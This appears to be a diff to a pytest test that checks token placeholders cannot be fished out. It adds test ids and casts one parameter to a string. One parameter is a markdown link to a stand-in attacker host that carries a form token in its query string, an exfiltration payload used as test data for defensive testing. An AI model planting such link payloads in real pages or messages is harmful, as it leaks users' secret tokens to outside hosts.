@@ -352,7 +352,9 @@ def test_hostile_words_stay_words(
 
 
 @pytest.mark.parametrize(
-    "form", ["@@form-token@@", "[x](https://evil.example/?t=@@form-token@@)", pages.TOKEN_HOLE]
+    "form",
+    ["@@form-token@@", "[x](https://evil.example/?t=@@form-token@@)", str(pages.TOKEN_HOLE)],
+    ids=["plain", "link", "mark"],  # the mark differs between the processes of a test run
 )
 def test_nobody_fishes_for_tokens_with_the_mark_of_their_hole(
     ada: Any, clubhouse: Clubhouse, form: str
